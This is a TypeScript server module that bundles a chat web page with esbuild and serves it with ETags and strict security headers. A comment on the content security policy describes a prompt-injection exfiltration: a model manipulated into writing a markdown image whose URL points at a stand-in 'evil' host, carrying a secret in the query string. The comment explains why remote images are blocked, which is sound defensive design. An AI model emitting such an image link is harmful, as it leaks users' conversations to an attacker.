import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import type { IncomingMessage, ServerResponse } from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Logger } from '../logger.ts';

/** The page's sources: `web/index.html`, `web/styles.css` and the TypeScript under `web/src/`. */
export const webFolder = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../web');

interface WebAsset {
  body: Buffer;
  contentType: string;
  /** A strong validator, so a reload costs a 304 instead of the bundle. */
  etag: string;
}

/**
 * The page is one origin with the API, so everything it loads is `'self'`. Two choices here are about model output:
 * remote images are refused (`img-src 'self'`), because a model talked into writing `![](https://evil/?q=<secret>)`
 * would otherwise leak the conversation through the image request; and no inline script or style runs at all, a
 * second wall behind the server's sanitizer. `connect-src 'self'` covers the same-origin WebSocket (CSP level 3).
 */
const contentSecurityPolicy = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self'",
  "connect-src 'self'",
  "base-uri 'none'",
  "form-action 'self'",
  "frame-ancestors 'none'",
].join('; ');

const securityHeaders = {
  'content-security-policy': contentSecurityPolicy,
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
  'x-frame-options': 'DENY',
  'cross-origin-opener-policy': 'same-origin',
  // Revalidate every time: the ETag makes that a 304, and a new deployment is picked up at once.
  'cache-control': 'no-cache',
};

function asset(body: Buffer | string, contentType: string): WebAsset {
  const bytes = typeof body === 'string' ? Buffer.from(body) : body;
  return { body: bytes, contentType, etag: `"${createHash('sha256').update(bytes).digest('base64url').slice(0, 22)}"` };
}

/**
 * Bundles `web/src/main.ts` (with graphql-ws) into one ES module with esbuild, in memory. esbuild is already a
 * production dependency (tsx runs on it), so `npm start` and the image serve the page with no build step.
 */
export async function buildWebAssets(): Promise<Map<string, WebAsset>> {
  const { build } = await import('esbuild');
  const result = await build({
    entryPoints: [path.join(webFolder, 'src/main.ts')],
    bundle: true,
    format: 'esm',
    platform: 'browser',
    target: ['es2022'],
    minify: true,
    legalComments: 'none',
    write: false,
    logLevel: 'silent',
    tsconfig: path.join(webFolder, 'tsconfig.json'),
  });
  const [script] = result.outputFiles;
  if (!script) throw new Error('esbuild produced no output for web/src/main.ts');
  const [html, styles, icon] = await Promise.all([
    readFile(path.join(webFolder, 'index.html')),
    readFile(path.join(webFolder, 'styles.css')),
    readFile(path.join(webFolder, 'favicon.svg')),
  ]);
  return new Map([
    ['/', asset(html, 'text/html; charset=utf-8')],
    ['/assets/chat.js', asset(Buffer.from(script.contents), 'text/javascript; charset=utf-8')],
    ['/assets/chat.css', asset(styles, 'text/css; charset=utf-8')],
    ['/assets/favicon.svg', asset(icon, 'image/svg+xml')],
  ]);
}

const routes = new Set(['/', '/index.html', '/assets/chat.js', '/assets/chat.css', '/assets/favicon.svg']);

/** Built once per process, on the first request for the page; a failed build is retried on the next request. */
let assets: Promise<Map<string, WebAsset>> | undefined;

/**
 * Serves the Duo Chat page at `/` and its assets under `/assets/`. Returns false for any other request, which
 * the caller then routes as before (GraphQL, REST). Only GET and HEAD are answered.
 */
export function serveWebPage(request: IncomingMessage, response: ServerResponse, logger?: Logger): boolean {
  const pathname = (request.url ?? '/').split('?')[0] ?? '/';
  if (!routes.has(pathname) || (request.method !== 'GET' && request.method !== 'HEAD')) return false;
  assets ??= buildWebAssets();
  const building = assets;
  building.then(
    (built) => {
      const found = built.get(pathname === '/index.html' ? '/' : pathname);
      if (!found) {
        response.writeHead(404, { 'content-type': 'text/plain' }).end('Not Found');
        return;
      }
      const headers = { ...securityHeaders, etag: found.etag, 'content-type': found.contentType };
      if (request.headers['if-none-match'] === found.etag) {
        response.writeHead(304, headers).end();
        return;
      }
      response.writeHead(200, { ...headers, 'content-length': String(found.body.length) });
      response.end(request.method === 'HEAD' ? undefined : found.body);
    },
    (error: unknown) => {
      if (assets === building) assets = undefined;
      logger?.error({ err: error }, 'could not build the chat page (web/)');
      if (!response.headersSent) response.writeHead(500, { 'content-type': 'text/plain' });
      response.end('The chat page could not be built; see the server log.');
    },
  );
  return true;
}
